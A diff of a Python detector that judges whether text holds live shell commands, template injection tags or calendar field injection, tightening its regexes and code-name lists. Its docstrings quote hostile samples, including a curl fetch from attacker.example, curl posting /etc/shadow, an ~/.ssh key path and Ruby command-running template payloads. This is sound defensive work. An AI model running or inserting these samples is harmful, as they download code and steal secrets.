@@ -437,18 +437,19 @@ def names_no_command(fragment: str, view: str) -> bool:
 
 
 _ADDRESS = re.compile(r"&[ \t]*[a-z_]\w*[ \t]*[),]", re.IGNORECASE)
-_ARGUMENT_OPENS = re.compile(r"[(,][ \t]*$")
+_ARGUMENT_OPENS = re.compile(r"[a-z_]\w*[ \t]*\((?:[^()\n]{0,120},)?[ \t]*$", re.IGNORECASE)
 
 
 def takes_an_address(fragment: str, view: str) -> bool:
     """Whether ``&`` takes a C argument's address (``CIRCLEQ_INIT(&head);``,
-    ``clock_gettime(CLOCK_MONOTONIC, &start)``): a name alone between an opening parenthesis
-    or a comma and a closing parenthesis or a comma. No shell reads ``(&`` or ``, &`` as a
-    separator before a command (the first is a syntax error, the second runs ``,``)."""
+    ``clock_gettime(CLOCK_MONOTONIC, &start)``): a name alone, as an argument of a function's
+    call (after ``name(`` and its other arguments), before a closing parenthesis or a comma.
+    No shell reads ``f(&`` or ``f(a, &`` as a separator before a command: bash refuses the
+    parenthesis, and cmd looks for a program named ``head)``."""
     if _ADDRESS.match(fragment) is None:
         return False
     at = locate(view, fragment)
-    return at > 0 and _ARGUMENT_OPENS.search(view, max(0, at - 8), at) is not None
+    return at > 0 and _ARGUMENT_OPENS.search(view, max(0, at - 160), at) is not None
 
 
 _AT_FRAME = re.compile(
@@ -638,40 +639,6 @@ _WRITTEN_AS_COMMAND_LINE = re.compile(
 also behind a crontab schedule (``*/15 * * * * /usr/local/bin/sync``)."""
 
 
-_REQUEST_OPTION = re.compile(
-    r"\s-(?:X\s*[A-Z]+|H\b|d\b|F\b|I\b|u\b|-header\b|-data(?:-raw|-binary|-urlencode)?\b"
-    r"|-json\b|-form\b|-head\b|-user\b|-request\b)"
-)
-_LEAVES_THE_CALL = re.compile(
-    r"[;\n`$<>]|&&|\|\||\|(?!\|)|\s(?:-[oO]|--output)(?![ \t=]*/dev/null\b)|\s(?:-K|--config)\b"
-    r"|\bfile://"
-)
-_OUTSIDE_FILE = re.compile(r"@(?!(?:\./)?\w)")
-"""A file sent from outside the working directory (@/etc/passwd, @~/.ssh/id_rsa, @.env,
-@../config.yml, @$HOME/…); ``@./report.pdf`` and an address (``a@example.com``) are not."""
-_SINGLE_QUOTED = re.compile(r"'[^'\n]*'")
-_DOUBLE_QUOTED = re.compile(r'"[^"\n]*"')
-_EXPANDS = re.compile(r"[^$`]")
-
-
-def _calls_an_api(view: str) -> bool:
-    """Whether the whole value is one curl or wget call of an API, as API documentation shows
-    it: it opens with the command, shapes a request (a method, a header, data, a form, a
-    user), and nothing leaves the call: no chaining, substitution, redirection or variable
-    outside quotes (and no $ or backtick inside double ones), no output file but
-    ``/dev/null``, no config file, no file sent
-    from outside the working directory (:data:`_OUTSIDE_FILE`), no ``file://``.
-    ``curl -X POST https://api.example.com/v1/orders -H '…' -d '{…}'``; not ``curl
-    http://attacker.example/x.sh -o /tmp/x`` or ``curl -F f=@/etc/shadow …``."""
-    literal = _SINGLE_QUOTED.sub("''", view)
-    # Inside double quotes only $ and ` still expand (-H "Authorization: Bearer <token>").
-    literal = _DOUBLE_QUOTED.sub(lambda quoted: _EXPANDS.sub("x", quoted.group()), literal)
-    return (_FETCH_COMMAND.match(view.lstrip()) is not None
-            and _REQUEST_OPTION.search(literal) is not None
-            and _LEAVES_THE_CALL.search(literal) is None
-            and _OUTSIDE_FILE.search(view) is None)
-
-
 def fetch_runs(fragment: str, view: str) -> bool:
     """A download command (``curl -f http://…``) runs where a command starts, as
     :func:`shell_path_runs` reads it; after a label or in a sentence (``healthcheck: curl -f
@@ -685,7 +652,7 @@ def fetch_runs(fragment: str, view: str) -> bool:
     if _in_prose_code_span(fragment, view):
         return False
     if _FETCH_COMMAND.match(fragment):
-        return _at_command_position(fragment, view) and not _calls_an_api(view)
+        return _at_command_position(fragment, view)
     if not _HOUSEKEEPING.match(fragment) or _STAGED_PROGRAM.search(view):
         return True
     at = locate(view, fragment)
@@ -1423,7 +1390,19 @@ def template_statement_active(fragment: str, view: str) -> bool:
         return True
     return any(
         tag.group(1).lower() not in _LAYOUT_TAGS or _ACTIVE_BODY.search(tag.group(2))
+        or _names_code(tag.group(2), _LAYOUT_TAGS)
         for tag in tags
+    )
+
+
+def _names_code(body: str, keywords: frozenset[str] = frozenset()) -> bool:
+    """Whether a tag's body names an object that reaches code or secrets outside its strings
+    (``{% set x = config %}``, ``{% for k in config %}``); ``keywords`` are the statement's
+    own words (``include … with …``), not objects."""
+    unquoted = _QUOTED_STRING.sub(" ", body)
+    return _DUNDER.search(unquoted) is not None or any(
+        name.lower() in _CODE_NAMES and name.lower() not in keywords
+        for name in _NAME.findall(unquoted)
     )
 
 
@@ -1457,7 +1436,7 @@ _DELIMITER_SPAN = re.compile(r"(``?)\s*(?:\{\{|\}\}|\{%-?|-?%\}|\{#|#\}|<%=?|%>|
 # The tokens of a tag body that only names data: a (dotted) name, a number, a short string, a
 # comparison or assignment, a comma, a filter with no arguments or literal ones (``|e``,
 # ``|date('Y-m-d')``).
-_INERT_STRING = r"""(?:"(?:[\w .,%-][\w .,/%:-]*)?"|'(?:[\w .,%-][\w .,/%:-]*)?')"""
+_INERT_STRING = r"""(?:"(?:[\w .,%-][\w .,/%:#-]*)?"|'(?:[\w .,%-][\w .,/%:#-]*)?')"""
 _INERT_LITERAL = r"(?:\d+|" + _INERT_STRING + ")"
 _INERT_ARGUMENTS = _INERT_LITERAL + r"\s*(?:,\s*" + _INERT_LITERAL + r"\s*)*"
 _INERT_STRINGS = _INERT_STRING + r"(?:\s*[,:]\s*" + _INERT_STRING + ")*"
@@ -1483,8 +1462,6 @@ _INERT_TOKEN = re.compile(
     # Go's template variables and their declaration ({{ range $key, $value := .Values.env }}).
     # Not the dot alone: {{.}} prints the whole data object, a probe's first move.
     + r"|\$[a-z_]\w*(?:\.\w+)*|:="
-    # Arithmetic on a variable (#set($total = $price * $qty)): no constant result to probe for.
-    + r"|[*+/%-](?=\s*\$[a-z_])"
     # FreeMarker's built-ins (?string, ?has_content, ??), but not those that make or run
     # code (?new, ?api, ?eval, ?interpret).
     + r"|\?\?|\?(?!(?:new|api|eval|eval_json|interpret|exec)\b)[a-z_]\w*(?:\.\w+)*"
@@ -1519,7 +1496,10 @@ _CODE_NAMES = frozenset({
     "storages", "credentials", "configuration", "rails", "file_excerpt", "readfile", "find",
     "pprint", "g", "kernel", "open3", "pty", "objectspace", "marshal", "send", "public_send",
     "instance_eval", "class_eval", "module_eval", "constantize", "spawn", "syscall", "fork",
-    "popen3", "capture2", "capture3", "data_model", "environment",
+    "popen3", "capture2", "capture3", "data_model", "environment", "ctx", "instance_variables",
+    "instance_variable_get", "class_variables", "class_variable_get", "local_variables",
+    "global_variables", "getenv", "highlight_file", "show_source", "file_get_contents",
+    "constant", "phpinfo", "register_shutdown_function", "fopen",
 })
 _NAME = re.compile(r"[a-z_]\w*", re.IGNORECASE)
 
@@ -1538,7 +1518,7 @@ def _tag_is_inert(tag: re.Match[str]) -> bool:
     if _PLACEHOLDER_BODY.fullmatch(mustache or statement or script or expression or ""):
         return True
     if mustache is not None:
-        mustache = _GO_NAMED_TEMPLATE.sub(r"t \1", mustache)
+        mustache = _GO_NAMED_TEMPLATE.sub('t "s"', mustache)
     if expression is not None:
         expression = _THYMELEAF_UTILITY.sub(r"thymeleaf_\1_\2", expression)
     if mustache is not None:
@@ -1569,7 +1549,7 @@ def _tag_is_inert(tag: re.Match[str]) -> bool:
             return False
     source = statement or body
     unquoted_source = _QUOTED_STRING.sub(" ", source)
-    if _METHOD_WITHOUT_PARENTHESES.search(unquoted_source):
+    if _METHOD_WITHOUT_PARENTHESES.search(unquoted_source) or _GO_METHOD_CALL.search(source):
         return False
     # A keyword argument's label (class: "btn") and gettext's _( and __( name no object; the
     # same word elsewhere in the tag still does (ENV: 0, default: ENV.to_h). A statement's
@@ -1585,6 +1565,13 @@ def _tag_is_inert(tag: re.Match[str]) -> bool:
     )
 
 
+_FREEMARKER_FORMATTING = frozenset({
+    "string", "c", "date", "time", "datetime", "number", "html", "xhtml", "xml", "url",
+    "js_string", "json_string", "upper_case", "lower_case", "cap_first", "uncap_first",
+    "capitalize", "trim", "join", "round", "floor", "ceiling", "abs", "left_pad", "right_pad",
+    "truncate", "date_if_unknown", "iso_utc", "iso_local",
+})
+"""FreeMarker built-ins that format a value (``?string("0.00")``, ``?date("yyyy-MM-dd")``)."""
 _FREEMARKER_INERT = frozenset({
     "list", "items", "sep", "if", "elseif", "else", "switch", "case", "on", "default", "break",
     "continue", "macro", "nested", "return", "function", "local", "assign", "global",
@@ -1606,7 +1593,11 @@ def _directive_is_inert(directive: str) -> bool:
 def _velocity_is_inert(body: str) -> bool:
     """A Velocity directive's condition or assignment that only names data: ``$item in
     $items``, ``$user``, ``$total = $price * $qty`` (no constant product to probe for)."""
-    return _expression_is_inert(body)
+    return _expression_is_inert(_BETWEEN_VARIABLES.sub(r"\1 ", body))
+
+
+_BETWEEN_VARIABLES = re.compile(r"(\$[a-z_][\w.]*)\s*[*+/%-]\s*(?=\$[a-z_])", re.IGNORECASE)
+"""An operator between two variables (``$price * $qty``): no constant result to probe for."""
 
 
 def _expression_is_inert(body: str) -> bool:
@@ -1616,7 +1607,7 @@ def _expression_is_inert(body: str) -> bool:
     if reduced is None or not _tokens_cover(_INERT_TOKEN, reduced) or ".." in body:
         return False
     unquoted = _QUOTED_STRING.sub(" ", body)
-    if _METHOD_WITHOUT_PARENTHESES.search(unquoted):
+    if _METHOD_WITHOUT_PARENTHESES.search(unquoted) or _GO_METHOD_CALL.search(body):
         return False
     return not any(
         name.startswith("__") or name.lower() in _CODE_NAMES
@@ -1631,10 +1622,11 @@ _GO_NAMED_TEMPLATE = re.compile(
 ``template "row" .``): a name, not a path (``include "/etc/passwd"`` stays a call)."""
 _THYMELEAF_UTILITY = re.compile(
     r"#(temporals|numbers|strings|lists|dates|calendars|arrays|sets|maps|aggregates|messages"
-    r"|uris|conversions|bools|objects|ids)\.(\w+)",
+    r"|uris|bools|ids)\.(\w+)",
 )
 """Thymeleaf's expression utility objects, which format and test data (``#temporals.format``,
-``#lists.isEmpty``); not ``#ctx``, ``#request``, ``#session`` or ``#servletContext``."""
+``#lists.isEmpty``); not ``#ctx``, ``#request``, ``#session``, ``#servletContext``, or
+``#conversions`` and ``#objects``, which build or hand out objects."""
 
 
 _QUOTED_STRING = re.compile(r"\"[^\"]*\"|'[^']*'")
@@ -1642,6 +1634,9 @@ _LABEL = re.compile(r"(?<![\w.$])(?:[a-z]\w*:(?=\s)|_{1,2}(?=\s*\())", re.IGNORE
 _METHOD_WITHOUT_PARENTHESES = re.compile(
     r"(?<![\w.$@])(?:[a-z_]\w*(?:\.\w+)+|[A-Z]\w*(?:::\w+)*)\s+(?:['\"`:@$]|[a-z_]\w*\s*,)"
 )
+_GO_METHOD_CALL = re.compile(r"(?<![\w$])\.[A-Z]\w*(?:\.[A-Z]\w*)*\s+[\"'`$.(\d]")
+"""Go calling a data object's method with its arguments after it (``.Files.Get "x.yaml"``):
+the struct's own methods are what a Go template injection reaches."""
 """A method of an object or a constant called without parentheses (``Open3.capture2 'id'``,
 ``Kernel.public_send 'spawn', …``): a call, which Ruby and CoffeeScript templates allow."""
 _CALL = re.compile(
@@ -1664,24 +1659,29 @@ Laravel's ``route`` and ``asset``, and the translation helpers ``t``, ``trans`` 
 
 
 _CONTROL_FLOW = re.compile(
-    r"\s*(?:\}\s*)?(?:(?:if|unless|elsif|while|until|else\s+if)\b\s*\(?([^(){}]*?)\)?\s*(?:then\s*|\{\s*)?"
+    r"\s*(?:\}\s*)?(?:(?:if|unless|elsif|else\s+if)\b\s*\(?([^(){}]*?)\)?\s*(?:then\s*|\{\s*)?"
     r"|else\s*\{?\s*|end\s*|\}\s*|(@?[a-z_]\w*(?:\.\w+)*)\.each(?:_with_index)?\s+do\s*"
     r"\|\s*\w+(?:\s*,\s*\w+)*\s*\|\s*)",
     re.IGNORECASE,
 )
 """ERB's and EJS's control flow (``<% if @cart.empty? %>``, ``<% if (user) { %>``, ``<% } %>``,
 ``<% @orders.each do |order| %>``, ``<% end %>``): the condition or the collection is what is
-read, as any tag's body."""
-_MESSAGE = re.compile(r"\"((?![/\\~])[^\"\\{}$`<>/]{0,200})\"|'((?![/\\~])[^'\\{}$`<>/]{0,200})'")
-"""A string that reads as a message (``"Questions? Reply or call %(phone)s."``): no path,
-no template or shell syntax in it."""
+read, as any tag's body. Not ``while`` or ``until``: ``<% while (1) { %>`` never ends."""
+_MESSAGE = re.compile(
+    r"((?<![\w.$])(?:_{1,2}|\$?t|trans|gettext)\s*\(\s*)"
+    r"(?:\"((?![/\\~])[^\"\\{}$`<>/]{0,200})\"|'((?![/\\~])[^'\\{}$`<>/]{0,200})')"
+)
+"""A translation call's message (``_("Questions? Reply or call %(phone)s.")``): no path, no
+template or shell syntax in it. Strings handed to anything else keep their words."""
 
 
-def _masked(string: re.Match[str]) -> str:
-    """A message string as the plain literal ``"s"`` for reading a tag's tokens (its words are
-    still read for names); a string with ``..`` or a dunder is left for the tokens to refuse."""
-    content = string.group(1) if string.group(1) is not None else string.group(2)
-    return string.group() if ".." in content or "__" in content else '"s"'
+def _masked(message: re.Match[str]) -> str:
+    """A translation call's message as the plain literal ``"s"``, for reading the tag's tokens
+    and names; one with ``..`` or a dunder is left for the tokens to refuse."""
+    content = message.group(2) if message.group(2) is not None else message.group(3)
+    if ".." in content or "__" in content:
+        return message.group()
+    return message.group(1) + '"s"'
 
 
 def _calls_reduced(body: str, signature: bool = False) -> str | None:
@@ -1699,9 +1699,15 @@ def _calls_reduced(body: str, signature: bool = False) -> str | None:
         def callee(call: re.Match[str]) -> str:
             nonlocal plain
             name, arguments = call.groups()
-            # A filter (``|date('Y-m-d')``, ``|slice(0, 120)``) formats the value before it.
-            is_filter = call.string[: call.start()].rstrip().endswith(("|", "?")) and (
-                _FORMATTING_FILTER.match(name) is not None
+            # A filter (``|date('Y-m-d')``, ``|slice(0, 120)``) formats the value before it, and
+            # so does a FreeMarker built-in written straight after its ``?`` (``?string('0.00')``);
+            # not a call after ``||``, ``??`` or a ternary's ``?`` (``nil || open("|id")``).
+            before = call.string[: call.start()]
+            is_filter = (
+                (before.rstrip().endswith("|") and not before.rstrip().endswith("||")
+                 and _FORMATTING_FILTER.match(name) is not None)
+                or (before.endswith("?") and not before.endswith("??")
+                    and name.lower() in _FREEMARKER_FORMATTING)
             )
             helper = signature or is_filter or _VIEW_HELPER.fullmatch(name) is not None
             if not helper or not _tokens_cover(_INERT_TOKEN, arguments):
@@ -1759,6 +1765,7 @@ def _all_inert(tags: list[re.Match[str]]) -> bool:
     for tag in tags:
         body = tag.group(1)
         if (body is not None and _GO_BLOCK_OPENER.fullmatch(body)
+                and not _SECRET_NAME.search(body)
                 and not any(name.lower() in _CODE_NAMES for name in _NAME.findall(body)[1:])):
             depth += 1
             continue
@@ -1776,10 +1783,14 @@ _GO_BLOCK_OPENER = re.compile(
 )
 """Go's ``with`` or ``range`` over a data path (``{{- range $k, $v := .Values.env }}``)."""
 _GO_DOT_USE = re.compile(
-    r"-?\s*(?:[a-z]\w*\s+)?\.\s*(?:\|\s*[a-z]\w*(?:\s+\d{1,4})?\s*)*-?", re.IGNORECASE
+    r"-?\s*(?:(?:toYaml|toJson|toPrettyJson|quote|squote|html|js|urlquery|len|upper|lower|title"
+    r"|trim|toString|print|println)\s+)?\.\s*(?:\|\s*(?:nindent|indent|quote|squote|trim|upper"
+    r"|lower|title|html|js|urlquery)(?:\s+\d{1,4})?\s*)*-?"
 )
-"""The current item printed or piped (``{{ . }}``, ``{{- toYaml . | nindent 12 }}``)."""
+"""The current item printed or formatted (``{{ . }}``, ``{{- toYaml . | nindent 12 }}``); not
+handed to any other function (``{{ call . }}``)."""
 _GO_END = re.compile(r"-?\s*end\s*-?", re.IGNORECASE)
+_SECRET_NAME = re.compile(r"secret|passw|token|credential|private|_key\b", re.IGNORECASE)
 
 
 _HELPER_WITH_TEXT = re.compile(
@@ -1815,13 +1826,17 @@ _DUNDER = re.compile(r"__\w+__")
 def template_reaches_code(fragment: str) -> bool:
     """Whether a template tag in ``fragment`` names an object that reaches code or secrets
     (:data:`_CODE_NAMES`: ``config``, ``session``, ``Kernel``, ``system``, ``password``…) or a
-    dunder, outside its strings. A sentence around such a tag does not make it a quotation:
-    it is the payload (``Dear #{ENV['SECRET']}, …``), whatever the words around it say."""
+    dunder, outside its strings, or calls a function that is no view helper or filter. A
+    sentence around such a tag does not make it a quotation: it is the payload (``Dear
+    #{ENV['SECRET']}, …``), whatever the words around it say."""
     for tag in islice(_ANY_TEMPLATE_TAG.finditer(fragment), 16):
-        body = _QUOTED_STRING.sub(" ", next(group for group in tag.groups() if group is not None))
-        if _DUNDER.search(body) or any(name.lower() in _CODE_NAMES for name in _NAME.findall(body)):
+        body = next(group for group in tag.groups() if group is not None)
+        if _names_code(body) or (_ANY_CALL.search(body) and not _tag_is_inert(tag)):
             return True
     return False
+
+
+_ANY_CALL = re.compile(r"\w\s*\(")
 
 
 _GO_BLOCK = re.compile(r"\{\{-?\s*(?:with|range)\b")
@@ -2038,14 +2053,17 @@ def header_injected(fragment: str, view: str) -> bool:
 
 _CALENDAR_BEGIN = re.compile(r"\s*BEGIN:V(?:CALENDAR|CARD|EVENT|TODO)\b")
 _CONTENT_LINE = re.compile(r"([A-Z][A-Z0-9-]*)(?:;[^:\r\n]*)?:(.*)")
-_URL_OR_PATH = re.compile(r"\s*(?:[a-z][a-z0-9+.-]*:/|/)", re.IGNORECASE)
+_NOT_A_PLACE = re.compile(r"[:\\]|//|^\s*/")
+"""A LOCATION that a browser could follow (``https:attacker.example``, ``\\\\host``, ``/path``),
+not a room or an address."""
 
 
 def _is_calendar_object(lines: list[str]) -> bool:
     """Whether ``lines`` are an iCalendar or vCard object (``BEGIN:VCALENDAR``, ``SUMMARY:…``,
     ``END:VEVENT``): every line a content line named in capitals, as the formats write them,
-    or a folded continuation. No line may name a field an injection gains by, except the
-    event's ``LOCATION`` when it holds a place rather than a URL or a path."""
+    or a folded continuation. No line may name a field an injection gains by
+    (:func:`_field_gains`), except the event's ``LOCATION`` when it holds a place rather than
+    something a browser could follow (:data:`_NOT_A_PLACE`)."""
     for raw in lines:
         line = raw.rstrip("\r")
         if not line.strip() or line[:1] in (" ", "\t"):
@@ -2053,11 +2071,11 @@ def _is_calendar_object(lines: list[str]) -> bool:
         content = _CONTENT_LINE.fullmatch(line)
         if content is None:
             return False
-        name = content.group(1).lower()
+        name, value = content.group(1).lower(), content.group(2)
         if name == "location":
-            if _URL_OR_PATH.match(content.group(2)):
+            if _NOT_A_PLACE.search(value):
                 return False
-        elif name in _HARMFUL_FIELDS or name.startswith(_HARMFUL_FIELD_PREFIXES):
+        elif _field_gains(name, value, False):
             return False
     return True
 
